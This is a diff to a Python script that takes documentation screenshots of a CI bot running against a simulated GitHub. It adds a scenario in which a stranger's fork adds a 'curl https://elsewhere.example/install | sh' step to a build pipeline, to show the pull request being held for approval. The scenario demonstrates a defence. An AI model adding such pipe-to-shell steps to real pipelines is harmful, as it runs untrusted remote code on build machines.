@@ -1,4 +1,4 @@
-"""Makes the pictures of the docs anew: a job's page, and the simulator's page of a pull request. Needs Chromium."""
+"""Makes the pictures of the docs anew: a job's page, and the simulator's pages of pull requests. Needs Chromium."""
 
 from __future__ import annotations
 
@@ -6,6 +6,7 @@ import asyncio
 import shutil
 import sys
 import tempfile
+from collections.abc import Awaitable, Callable
 from pathlib import Path
 
 from playwright.async_api import async_playwright
@@ -13,6 +14,7 @@ from playwright.async_api import async_playwright
 from bot.cli import demo
 from bot.simulator import Simulator
 
+Shoot = Callable[[str, str], Awaitable[None]]
 IMAGES = Path(__file__).parent.parent / "docs" / "images"
 #: Nothing of the browser's own calls out, and every run draws alike.
 ARGUMENTS = [
@@ -28,7 +30,7 @@ ARGUMENTS = [
 
 
 async def main() -> None:
-    """Tell the demo's story, and take its pictures."""
+    """Tell the stories, and take their pictures."""
     chromium = shutil.which("chromium")
     if chromium is None:
         sys.exit("Chromium is missing: apt-get install chromium")
@@ -37,24 +39,48 @@ async def main() -> None:
         home = Path(folder)
         async with Simulator(folder=home / "github") as github, demo.service(github, home) as url:
             github.webhook_url = f"{url}/webhook"
-            pages = await _story(github)
             async with async_playwright() as playwright:
                 browser = await playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)
-                for name, page_url in pages.items():
+
+                async def shoot(name: str, page_url: str) -> None:
                     page = await browser.new_page(viewport={"width": 1100, "height": 800}, device_scale_factor=1.5)
                     await page.goto(page_url)
                     await page.wait_for_load_state("load")
                     await page.screenshot(path=IMAGES / f"{name}.png", full_page=True)
+                    await page.close()
                     print(f"docs/images/{name}.png is made")
+
+                await _red_check(github, shoot)
+                await _stranger(github, shoot)
                 await browser.close()
 
 
-async def _story(github: Simulator) -> dict[str, str]:
+async def _red_check(github: Simulator, shoot: Shoot) -> None:
     repository = await github.create_repository("octo/hello", files=demo.MAIN)
     await github.commit(repository, "greet-the-world", demo.TOPIC, "Greet the world when nobody is named")
     pull = await github.open_pull_request(repository, "greet-the-world", author="mona")
     run = await github.wait_for_check(repository, pull.head_sha, conclusion="failure")
-    return {"job": run.details_url, "pull-request": f"{repository.html_url}/pull/{pull.number}"}
+    await shoot("job", run.details_url)
+    await shoot("pull-request", f"{repository.html_url}/pull/{pull.number}")
+
+
+async def _stranger(github: Simulator, shoot: Shoot) -> None:
+    """A stranger's pull request waits, is approved by the button, and a newer push drops the approval."""
+    repository = await github.create_repository("octo/tools", files=demo.MAIN)
+    fork = await github.fork(repository, "stranger")
+    pipeline = demo.MAIN[".buildhook.yml"] + "      - run: curl https://elsewhere.example/install | sh\n"
+    files = {"README.md": "# Better tools\n", ".buildhook.yml": pipeline}
+    await github.commit(fork, "better", files, "Make the tools better")
+    pull = await github.open_pull_request(repository, "better", from_fork=fork, author="stranger")
+    page = f"{repository.html_url}/pull/{pull.number}"
+    run = await github.wait_for_check(repository, pull.head_sha, conclusion="action_required")
+    await shoot("stranger-waits", page)
+    github.press_action(run, "approve", sender="octo")
+    await github.wait_for_check(repository, pull.head_sha, conclusion="success")
+    await shoot("stranger-approved", page)
+    await github.push(fork, "better", {"README.md": "# Even better tools\n"}, author="stranger")
+    await github.wait_for_check(repository, pull.head_sha, conclusion="action_required")
+    await shoot("stranger-pushed-again", page)
 
 
 if __name__ == "__main__":
